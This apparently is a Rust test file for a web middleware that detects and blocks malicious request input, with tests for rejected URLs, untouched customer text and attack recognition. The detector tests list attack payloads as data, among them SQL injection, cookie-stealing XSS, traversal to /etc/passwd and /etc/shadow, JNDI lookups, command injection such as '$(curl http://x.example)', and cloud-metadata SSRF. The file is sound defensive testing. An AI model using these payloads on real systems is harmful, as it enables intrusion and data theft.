use super::*;
use crate::testing::{Recorded, body_text};
use axum::Router;
use axum::body::Body;
use tower::ServiceExt;

async fn ask(config: InputConfig, target: &str, agent: Option<&str>) -> Response {
    let app = Router::new()
        .fallback(|request: Request| async move {
            let target = request.uri().to_string();
            let body = axum::body::to_bytes(request.into_body(), 1 << 20).await.unwrap();
            format!("{target} {}", String::from_utf8_lossy(&body))
        })
        .layer(layer(config));
    let mut request = Request::post(target);
    if let Some(agent) = agent {
        request = request.header("user-agent", agent);
    }
    app.oneshot(request.body(Body::from("' or 1=1 -- <script>")).unwrap()).await.unwrap()
}

#[tokio::test]
async fn a_target_that_cannot_be_is_refused_and_named() {
    for (target, problem) in [
        ("/a%zz", "Invalid percent-encoding in the path"),
        ("/a%4", "Invalid percent-encoding in the path"),
        ("/a?q=100%", "Invalid percent-encoding in the query"),
        ("/a%ff", "Invalid UTF-8 in the path"),
        ("/a%c0%af", "Invalid UTF-8 in the path"),
        ("/a?q=%e4", "Invalid UTF-8 in the query"),
        ("/a%00b", "NUL byte in the path"),
        ("/a?q=%00", "NUL byte in the query"),
        ("/a%0d%0aSet-Cookie:x", "Control character in the path"),
        ("/a%2fb", "Encoded slash in the path"),
        ("/a%5Cb", "Encoded slash in the path"),
        ("/a/../b", "Dot segment in the path"),
        ("/a/%2e%2E/b", "Dot segment in the path"),
        ("/a/./b", "Dot segment in the path"),
    ] {
        let recorded = Recorded::start();
        let response = ask(InputConfig::default(), target, None).await;
        assert_eq!(response.status(), 400, "{target}");
        let body = body_text(response).await;
        for said in [problem, "\"status\":400", "\"Bad Request\"", "\"input_rejected\""] {
            assert!(body.contains(said), "{target}: {body}");
        }
        assert_eq!(recorded.count("inputguard.findings", &[("action", "block")]), 1, "{target}");

        let detect = InputConfig { target: Mode::Detect, ..InputConfig::default() };
        assert_eq!(ask(detect, target, None).await.status(), 200, "{target}");
    }
}

#[tokio::test]
async fn what_people_write_goes_through_unchanged() {
    for target in [
        "/api/v1/accounts/1/contacts/search?q=O%27Brien",
        "/api/v1/accounts/1/search?q=select%20a%20plan%20or%201=1%20box",
        "/api/v1/accounts/1/search?q=%0Aline%0A",
        "/hc/handbuch/de/articles/%C3%BCbersicht",
        "/webhooks/whatsapp/%2B4917012345",
        "/a?b[]=1&b[]=2&c[d]=%25",
        "/a?q=%27%20or%201%3D1%20--%20",
        "/a?q=%3Cscript%3Ealert(1)%3C/script%3E",
        "/a..b/c...d/.well-known/x",
        "/a//b/",
    ] {
        let response = ask(InputConfig::default(), target, None).await;
        assert_eq!(response.status(), 200, "{target}");
        assert_eq!(body_text(response).await, format!("{target} ' or 1=1 -- <script>"));
    }
}

#[tokio::test]
async fn findings_are_counted_where_they_are() {
    for (target, agent, category, location) in [
        ("/a?id=1%27%20or%20%271%27=%271", None, "SQLI", "query"),
        ("/a?q=%3Cscript%3Ealert(1)%3C/script%3E", None, "XSS", "search"),
        ("/a?user[$ne]=x", None, "NOSQL", "query"),
        ("/a", Some("${jndi:ldap://x.example/a}"), "SSTI", "header"),
        ("/.git/config", None, "TRAVERSAL", "path"),
    ] {
        let recorded = Recorded::start();
        assert_eq!(ask(InputConfig::default(), target, agent).await.status(), 200, "{target}");
        let labels = [("category", category), ("location", location), ("action", "detect")];
        assert!(recorded.count("inputguard.findings", &labels) > 0, "{target}");
    }
    let recorded = Recorded::start();
    let off = InputConfig { detector: Mode::Off, target: Mode::Off };
    ask(off, "/a?id=1%27%20or%20%271%27=%271", None).await;
    assert_eq!(recorded.count("inputguard.findings", &[]), 0);
}

#[tokio::test]
async fn blocking_spares_what_people_type() {
    let block = || InputConfig { detector: Mode::Block, ..InputConfig::default() };
    for (target, expected) in [
        ("/a?id=1%27%20union%20select%20password%20from%20users--", 400),
        ("/a?q=1%27%20union%20select%20password%20from%20users--", 200),
        ("/a?sort=name", 200),
    ] {
        let response = ask(block(), target, None).await;
        assert_eq!(response.status(), expected, "{target}");
        if expected == 400 {
            assert!(body_text(response).await.contains("\"Request rejected\""));
        }
    }
}

#[test]
fn attacks_are_recognised() {
    use Category::{Command, Crlf, NoSql, Prototype, SqlInjection, Ssrf, Template, Traversal, Xss};
    for (category, text) in [
        (SqlInjection, "' or 1=1 --"),
        (SqlInjection, "' OR 'a'='a"),
        (SqlInjection, "\") or (\"a\"=\"a"),
        (SqlInjection, "1 or 1=1"),
        (SqlInjection, "1%27%20OR%201%3D1"),
        (SqlInjection, "1%2527%2520OR%25201%253D1"),
        (SqlInjection, "1 UNION/**/ALL/**/SELECT null,version()"),
        (SqlInjection, "un/**/ion sel/**/ect 1"),
        (SqlInjection, "1 union all select 1,2,3"),
        (SqlInjection, "x'; DROP TABLE users; --"),
        (SqlInjection, "1; waitfor delay '0:0:5'--"),
        (SqlInjection, "1' and sleep(5)#"),
        (SqlInjection, "1 and (select count(*) from information_schema.tables)>0"),
        (SqlInjection, "admin'--"),
        (SqlInjection, "1' and ascii(substr(user(),1,1))>64"),
        (SqlInjection, "' || (select password from users) || '"),
        (SqlInjection, "１＇ or １=１"),
        (Xss, "<script>alert(1)</script>"),
        (Xss, "<ScRiPt src=//x.example>"),
        (Xss, "<img src=x onerror=alert(1)>"),
        (Xss, "<svg/onload=alert(1)>"),
        (Xss, "\" onmouseover=\"alert(1)"),
        (Xss, "javascript:alert(1)"),
        (Xss, "java\tscript:alert(1)"),
        (Xss, "&#106;avascript:alert(1)"),
        (Xss, "&lt;script&gt;alert(1)&lt;/script&gt;"),
        (Xss, "%3Ciframe%20src%3Djavascript:alert(1)%3E"),
        (Xss, "data:text/html,<b>x"),
        (Xss, "<a href=\"vbscript:x\">"),
        (Xss, "alert(document.cookie)"),
        (Traversal, "../../etc/passwd"),
        (Traversal, "..%2f..%2fetc%2fpasswd"),
        (Traversal, "..\\..\\windows\\win.ini"),
        (Traversal, "%252e%252e%252fetc/shadow"),
        (Traversal, "file:///etc/hosts"),
        (Crlf, "x%0d%0aSet-Cookie: a=b"),
        (NoSql, "user[$ne]"),
        (NoSql, "{\"$gt\":\"\"}"),
        (Template, "{{7*7}}"),
        (Template, "${jndi:ldap://x.example/a}"),
        (Template, "{{''.__class__.__mro__}}"),
        (Command, "; cat /etc/passwd"),
        (Command, "x | whoami"),
        (Command, "$(curl http://x.example)"),
        (Command, "`id`"),
        (Command, "x;ping 203.0.113.5"),
        (Command, "x && sleep 10"),
        (Ssrf, "http://169.254.169.254/latest/meta-data/"),
        (Ssrf, "http://localhost:6379/"),
        (Ssrf, "gopher://x.example/"),
        (Prototype, "__proto__[admin]"),
        (Prototype, "constructor.prototype.x"),
    ] {
        let found = findings(text, true);
        assert!(found.iter().any(|it| it.category == category), "{category:?}: {text}: {found:?}");
    }
}

#[test]
fn what_customers_write_is_no_attack() {
    for text in [
        "Please update my address and delete the old one",
        "I can't select a plan; drop by later or call me",
        "create a ticket for the table order by Friday",
        "O'Brien and O'Neill",
        "It's either 'yes' or 'no', isn't it?",
        "rock 'n' roll & blues",
        "1 or 2 boxes = fine",
        "a union of workers selected him from the group",
        "C:\\Users\\Ann\\Desktop",
        "see ./docs/readme.md",
        "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0",
        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        "https://shop.example/a/b?utm_source=mail&utm_medium=x#top",
        "ann+support@example.com",
        "+49 (0) 170 / 123-45-67",
        "price < 5 and stock > 3",
        "3 < 4 > 2",
        "the function (see manual) is on = off",
        "R&D; Q&A",
        "Müller & Söhne GmbH; Köln",
        "{{contact.name}}, hello",
        "${amount} due",
        "what does -- mean?",
        "50% off; 100% cotton",
        "日本語のテキスト",
        "last_activity_at",
        "eyJhbGciOiJIUzI1NiJ9.eyJzb3VyY2VfaWQiOiJ4In0.c2ln",
        "I like cats; cat food | dog food",
        "my email is on file: see data: attached",
        "#f5a623",
        "cats & dogs; type 2 diabetes; sleep 8 hours",
        "2026-02-03T10:11:12+01:00",
        "Terms & Conditions <sales@example.com>",
    ] {
        assert_eq!(findings(text, false), [], "{text}");
    }
}

#[test]
fn only_plain_names_of_clients_are_not_looked_at() {
    use super::detector::names_a_client;
    for (agent, expected) in [
        ("Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0", true),
        (
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 Safari/537.36",
            true,
        ),
        ("curl/8.5.0", false),
        ("Mozilla/5.0 (X11; ${jndi:ldap://x}) x", false),
        ("Mozilla/5.0 (X11) sleep(5)", false),
        ("Mozilla/5.0 (X11; cat /etc/passwd)", false),
        ("Mozilla/5.0 (compatible; x; +http://localhost/)", false),
    ] {
        assert_eq!(names_a_client(agent), expected, "{agent}");
    }
}

#[test]
fn nothing_breaks_the_detector() {
    for text in ["", "%", "%%%", "&#xffffffff;", "&#x110000;", "&&&&", "\u{202e}x", "%u0000", "&#"]
    {
        assert!(findings(text, true).len() < 10, "{text}");
    }
    // Beyond what is inspected nothing is found, and a cut through a character is no panic.
    let long = format!("{}<script>", "ü".repeat(40 << 10));
    assert_eq!(findings(&long, true), []);
}

#[test]
fn modes_are_read() {
    for (text, expected) in [
        ("off", Ok(Mode::Off)),
        ("detect", Ok(Mode::Detect)),
        ("block", Ok(Mode::Block)),
        ("on", Err(UnknownMode("on".into()))),
    ] {
        assert_eq!(text.parse(), expected);
    }
}
